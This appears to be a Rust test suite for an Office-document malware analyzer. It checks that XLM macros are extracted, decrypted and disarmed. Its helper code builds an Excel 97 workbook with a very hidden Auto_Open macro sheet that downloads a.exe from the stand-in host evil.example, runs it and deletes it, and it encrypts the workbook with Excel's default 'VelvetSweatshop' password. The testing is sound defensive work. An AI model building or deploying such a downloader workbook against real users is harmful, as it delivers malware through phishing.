//! Excel 4 (XLM) macro formulas come out as text whatever container holds them: the corpus
//! has one macro saved five ways (SYLK text, Excel 5 BIFF5, .xlsm and .xltm XML, .xlsb
//! BIFF12), and a BIFF8 workbook is built here record by record.

use std::io::{Cursor, Read, Write};
use std::path::Path;

use qalxan_docs::{analyze, Options};
use rc4::{KeyInit, StreamCipher};
use sha1::{Digest, Sha1};

fn xlm_code(data: &[u8], name: &str) -> (qalxan_docs::Report, String) {
    let r = analyze(data, name, &Options::default());
    let code = r
        .scripts
        .iter()
        .filter(|s| s.kind == "xlm")
        .map(|s| s.code.clone())
        .collect::<Vec<_>>()
        .join("\n");
    (r, code)
}

#[test]
fn one_macro_reads_the_same_in_every_container() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/docs/oletools/excel4-macros");
    if !dir.is_dir() {
        eprintln!("skipping: {} is absent", dir.display());
        return;
    }
    let expected = "A1: =ALERT(\"This is a sample Excel 4 macro\")\nA2: =HALT()";
    for file in [
        "excel4_sample_macro.slk",
        "excel4_sample_macro_excel5_format.xls",
        "excel4_sample_macro.xlsm",
        "excel4_sample_macro.xltm",
        "excel4_sample_macro.xlsb",
    ] {
        let data = std::fs::read(dir.join(file)).expect("corpus file");
        let (r, code) = xlm_code(&data, file);
        assert_eq!(code, expected, "{file}");
        assert!(
            r.flags.xlm_macros && r.flags.autoexec,
            "{file}: {:?}",
            r.flags
        );
    }
}

/// BIFF8 records: type, length, body.
fn record(out: &mut Vec<u8>, kind: u16, body: &[u8]) {
    out.extend_from_slice(&kind.to_le_bytes());
    out.extend_from_slice(&(body.len() as u16).to_le_bytes());
    out.extend_from_slice(body);
}

fn formula_record(row: u16, col: u16, rgce: &[u8]) -> Vec<u8> {
    let mut b = Vec::new();
    b.extend_from_slice(&row.to_le_bytes());
    b.extend_from_slice(&col.to_le_bytes());
    b.extend_from_slice(&[0; 2 + 8 + 2 + 4]); // style, cached value, flags, chn
    b.extend_from_slice(&(rgce.len() as u16).to_le_bytes());
    b.extend_from_slice(rgce);
    b
}

fn ptg_str(s: &str) -> Vec<u8> {
    let mut v = vec![0x17, s.len() as u8, 0];
    v.extend_from_slice(s.as_bytes());
    v
}

/// An Excel 97 workbook whose very hidden macro sheet downloads and runs a program, the
/// shape of 2020's XLM campaigns: `Auto_Open` points at it, the URL is split in two cells
/// and the command goes through a 3-D reference to the sheet itself.
fn biff8_stream(filepass: Option<&[u8]>) -> Vec<u8> {
    let sheet_name = "Macro1";
    let mut globals = Vec::new();
    let bof = [0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    record(&mut globals, 0x0809, &bof);
    if let Some(fp) = filepass {
        record(&mut globals, 0x002f, fp);
    }
    // BOUNDSHEET: position patched below, very hidden (2), macro sheet (1).
    let mut boundsheet = vec![0, 0, 0, 0, 2, 1, sheet_name.len() as u8, 0];
    boundsheet.extend_from_slice(sheet_name.as_bytes());
    let boundsheet_at = globals.len() + 4;
    record(&mut globals, 0x0085, &boundsheet);
    // EXTERNSHEET: one XTI, the workbook's own sheet 0.
    record(&mut globals, 0x0017, &[1, 0, 0, 0, 0, 0, 0, 0]);
    // LBL: built-in name 1 (Auto_Open) -> Macro1!A1.
    let lbl = [0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
    record(&mut globals, 0x0018, &lbl);
    record(&mut globals, 0x000a, &[]);
    let sheet_at = globals.len() as u32;
    globals[boundsheet_at..boundsheet_at + 4].copy_from_slice(&sheet_at.to_le_bytes());

    let mut sheet = Vec::new();
    record(
        &mut sheet,
        0x0809,
        &[0x00, 0x06, 0x40, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
    );
    // A1: ="http://evil.example/"&"a.exe"
    let mut a1 = ptg_str("http://evil.example/");
    a1.extend(ptg_str("a.exe"));
    a1.push(0x08);
    record(&mut sheet, 0x0006, &formula_record(0, 0, &a1));
    // A2: =CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,Macro1!$A$1,"c:\x.exe",0,0)
    let mut a2 = Vec::new();
    for s in ["urlmon", "URLDownloadToFileA", "JJCCJJ"] {
        a2.extend(ptg_str(s));
    }
    a2.extend([0x1e, 0, 0]);
    a2.extend([0x5a, 0, 0, 0, 0, 0, 0]); // ptgRef3d, XTI 0, row 0, col 0 absolute
    a2.extend(ptg_str("c:\\x.exe"));
    a2.extend([0x1e, 0, 0, 0x1e, 0, 0]);
    a2.extend([0x42, 8, 150, 0]); // CALL, Ftab 150, 8 arguments
    record(&mut sheet, 0x0006, &formula_record(1, 0, &a2));
    // A3: =EXEC("c:\x.exe")   A4: =FILE.DELETE("c:\x.exe")   A5: =HALT()
    let mut a3 = ptg_str("c:\\x.exe");
    a3.extend([0x42, 1, 110, 0]);
    record(&mut sheet, 0x0006, &formula_record(2, 0, &a3));
    let mut a4 = ptg_str("c:\\x.exe");
    a4.extend([0x42, 1, 0x06, 0x80]); // command equivalent 0x0006
    record(&mut sheet, 0x0006, &formula_record(3, 0, &a4));
    record(&mut sheet, 0x0006, &formula_record(4, 0, &[0x42, 0, 54, 0]));
    // A damaged formula is reported in its place, not a reason to stop.
    record(&mut sheet, 0x0006, &formula_record(5, 0, &[0x03]));
    record(&mut sheet, 0x000a, &[]);

    let mut stream = globals;
    stream.extend(sheet);
    stream
}

/// A compound file holding `stream` as its Workbook.
fn workbook_file(stream: &[u8]) -> Vec<u8> {
    let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("create");
    cf.create_stream("/Workbook")
        .expect("stream")
        .write_all(stream)
        .expect("write");
    cf.flush().expect("flush");
    cf.into_inner().into_inner()
}

#[test]
fn biff8_macro_sheet_formulas_are_shown_and_judged() {
    let (r, code) = xlm_code(&workbook_file(&biff8_stream(None)), "invoice.xls");
    let lines: Vec<&str> = code.lines().collect();
    assert_eq!(
        lines,
        [
            "A1: =\"http://evil.example/\"&\"a.exe\"",
            "A2: =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,Macro1!$A$1,\"c:\\x.exe\",0,0)",
            "A3: =EXEC(\"c:\\x.exe\")",
            "A4: =FILE.DELETE(\"c:\\x.exe\")",
            "A5: =HALT()",
            "A6: (unreadable formula: formula token without its operand)",
        ],
        "{code}"
    );
    let location = r
        .scripts
        .iter()
        .find(|s| s.kind == "xlm")
        .map(|s| s.location.clone());
    assert_eq!(location.as_deref(), Some("Workbook/Macro1"));
    assert!(r.flags.autoexec && r.flags.xlm_macros);
    assert_eq!(r.verdict, qalxan_docs::Verdict::Malicious, "{r:?}");
    // The keyword analysis ran over the formulas: the download and the execution.
    let said: Vec<&str> = r
        .indicators
        .iter()
        .map(|i| i.description.as_str())
        .collect();
    assert!(said.iter().any(|d| d.contains("EXEC")), "{said:?}");
    assert!(
        said.iter().any(|d| d.contains("URLDownloadToFile")),
        "{said:?}"
    );
}

/// CryptoAPI RC4 (MS-OFFCRYPTO 2.3.5.2): the key of one 1024-byte block.
fn cryptoapi_key(password: &str, salt: &[u8], block: u32, key_bits: u32) -> Vec<u8> {
    let pw: Vec<u8> = password.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let h0 = Sha1::new().chain_update(salt).chain_update(pw).finalize();
    let h = Sha1::new()
        .chain_update(h0)
        .chain_update(block.to_le_bytes())
        .finalize();
    let mut key = h[..(key_bits / 8) as usize].to_vec();
    if key_bits == 40 {
        key.resize(16, 0);
    }
    key
}

fn rc4(key: &[u8], data: &mut [u8]) {
    match key.len() {
        16 => rc4::Rc4::<rc4::consts::U16>::new(key.into()).apply_keystream(data),
        7 => rc4::Rc4::<rc4::consts::U7>::new(key.into()).apply_keystream(data),
        n => panic!("key of {n} bytes"),
    }
}

/// The FILEPASS record of CryptoAPI RC4 as Excel 2003 writes it (version 4.2).
fn cryptoapi_filepass(password: &str, salt: &[u8; 16], key_bits: u32) -> Vec<u8> {
    let mut header = Vec::new();
    let csp: Vec<u8> = "Microsoft Enhanced Cryptographic Provider v1.0\0"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let key_field = if key_bits == 40 { 0 } else { key_bits };
    for v in [0x04u32, 0, 0x6801, 0x8004, key_field, 1, 0, 0] {
        header.extend_from_slice(&v.to_le_bytes());
    }
    header.extend_from_slice(&csp);
    let verifier = *b"qalxan-verifier!";
    let mut secret = verifier.to_vec();
    secret.extend_from_slice(&Sha1::digest(verifier));
    rc4(&cryptoapi_key(password, salt, 0, key_bits), &mut secret);
    let mut fp = Vec::new();
    fp.extend_from_slice(&1u16.to_le_bytes()); // RC4
    fp.extend_from_slice(&4u16.to_le_bytes());
    fp.extend_from_slice(&2u16.to_le_bytes());
    fp.extend_from_slice(&0x04u32.to_le_bytes());
    fp.extend_from_slice(&(header.len() as u32).to_le_bytes());
    fp.extend_from_slice(&header);
    fp.extend_from_slice(&16u32.to_le_bytes());
    fp.extend_from_slice(salt);
    fp.extend_from_slice(&secret[..16]);
    fp.extend_from_slice(&20u32.to_le_bytes());
    fp.extend_from_slice(&secret[16..]);
    fp
}

/// Encrypts a workbook stream after its FILEPASS: record bodies, except the records that
/// stay in the clear and BOUNDSHEET's stream position, with the key of their 1024-byte block.
fn encrypt_stream(stream: &mut [u8], password: &str, salt: &[u8], key_bits: u32) {
    let mut pos = 0;
    let mut after_filepass = false;
    while pos + 4 <= stream.len() {
        let kind = u16::from_le_bytes([stream[pos], stream[pos + 1]]);
        let len = u16::from_le_bytes([stream[pos + 2], stream[pos + 3]]) as usize;
        let (start, end) = (pos + 4, pos + 4 + len);
        if after_filepass {
            let from = match kind {
                0x0809 | 0x002f | 0x0194 | 0x0195 | 0x00e1 | 0x0196 | 0x0138 => end,
                0x0085 => start + 4,
                _ => start,
            };
            for p in from..end {
                let mut ks = [0u8; 1024];
                rc4(
                    &cryptoapi_key(password, salt, (p / 1024) as u32, key_bits),
                    &mut ks,
                );
                stream[p] ^= ks[p % 1024];
            }
        }
        after_filepass |= kind == 0x002f;
        pos = end;
    }
}

fn stream_of(file: &[u8]) -> Vec<u8> {
    let mut cf = cfb::CompoundFile::open(Cursor::new(file)).expect("OLE2");
    let mut out = Vec::new();
    cf.open_stream("/Workbook")
        .expect("Workbook")
        .read_to_end(&mut out)
        .expect("read");
    out
}

/// Excel 2002 and later encrypt workbooks with CryptoAPI RC4; with Excel's built-in password
/// the attacker's macros open without a prompt, so the sandbox must open them too. The
/// encrypted file is checked against msoffcrypto-tool, the peer's decrypter, where it is on
/// PATH (CI installs it).
#[test]
fn cryptoapi_rc4_workbooks_open_with_excels_password() {
    let salt = *b"0123456789abcdef";
    for key_bits in [128, 40, 56] {
        let filepass = cryptoapi_filepass("VelvetSweatshop", &salt, key_bits);
        let plain = biff8_stream(Some(&filepass));
        let mut encrypted = plain.clone();
        encrypt_stream(&mut encrypted, "VelvetSweatshop", &salt, key_bits);
        assert_ne!(plain, encrypted);
        let file = workbook_file(&encrypted);

        let (r, code) = xlm_code(&file, "invoice.xls");
        assert!(r.flags.encrypted, "{key_bits}: {:?}", r.flags);
        assert!(
            code.contains("A3: =EXEC(\"c:\\x.exe\")"),
            "{key_bits}: {code}"
        );
        assert_eq!(r.verdict, qalxan_docs::Verdict::Malicious);
        assert!(
            r.indicators.iter().any(|i| i
                .description
                .contains("opened with the password \"VelvetSweatshop\"")),
            "{:?}",
            r.indicators
        );

        // The disarmed copy is decrypted and its macro sheet made a worksheet.
        let safe = qalxan_docs::disarm::disarm(&file, &Options::default()).expect("disarm");
        let again = analyze(&safe.data, "safe.xls", &Options::default());
        assert!(
            !again.flags.xlm_macros && !again.flags.encrypted,
            "{:?}",
            again.flags
        );

        // A password nobody gave leaves the workbook closed, and says so.
        let filepass = cryptoapi_filepass("secret", &salt, key_bits);
        let mut locked = biff8_stream(Some(&filepass));
        encrypt_stream(&mut locked, "secret", &salt, key_bits);
        let r = analyze(&workbook_file(&locked), "locked.xls", &Options::default());
        assert!(r.flags.encrypted && !r.flags.xlm_macros, "{:?}", r.flags);
        assert!(r
            .indicators
            .iter()
            .any(|i| i.description.contains("password is unknown")));

        peer_decrypts_to(&file, &plain, key_bits);
    }
}

/// msoffcrypto-tool decrypts the file to the plain stream (it zeroes the FILEPASS record).
fn peer_decrypts_to(file: &[u8], plain: &[u8], key_bits: u32) {
    let dir = tempfile::tempdir().expect("tempdir");
    let (input, output) = (dir.path().join("in.xls"), dir.path().join("out.xls"));
    std::fs::write(&input, file).expect("write");
    let run = std::process::Command::new("msoffcrypto-tool")
        .args(["-p", "VelvetSweatshop"])
        .arg(&input)
        .arg(&output)
        .output();
    let Ok(run) = run else {
        eprintln!("skipping the peer check: msoffcrypto-tool is not on PATH");
        return;
    };
    assert!(
        run.status.success(),
        "{key_bits}-bit: {}",
        String::from_utf8_lossy(&run.stderr)
    );
    let decrypted = stream_of(&std::fs::read(&output).expect("output"));
    let mut expected = plain.to_vec();
    let fp_len = u16::from_le_bytes([expected[22], expected[23]]) as usize;
    assert_eq!(u16::from_le_bytes([expected[20], expected[21]]), 0x002f);
    expected[20..22].fill(0);
    expected[24..24 + fp_len].fill(0);
    assert_eq!(decrypted, expected, "{key_bits}-bit");
}
